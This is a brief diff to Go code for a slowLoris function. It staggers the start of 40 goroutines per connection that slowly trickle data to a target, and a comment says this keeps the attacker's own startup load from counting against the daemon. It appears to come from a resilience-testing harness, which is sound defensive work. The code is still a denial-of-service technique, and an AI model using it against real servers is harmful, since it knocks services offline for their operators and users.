@@ -126,8 +126,10 @@ func slowLoris(ctx context.Context, t Target) error {
 			return err
 		}
 		defer conn.Close()
-		for range 40 {
+		for i := range 40 {
 			all.Go(func() {
+				// One after the other: what the attacker's own start takes of the processor is not the daemon's.
+				wait(ctx, slow*time.Duration(i)/40)
 				for ctx.Err() == nil {
 					trickle(ctx, t, conn)
 					wait(ctx, slow)
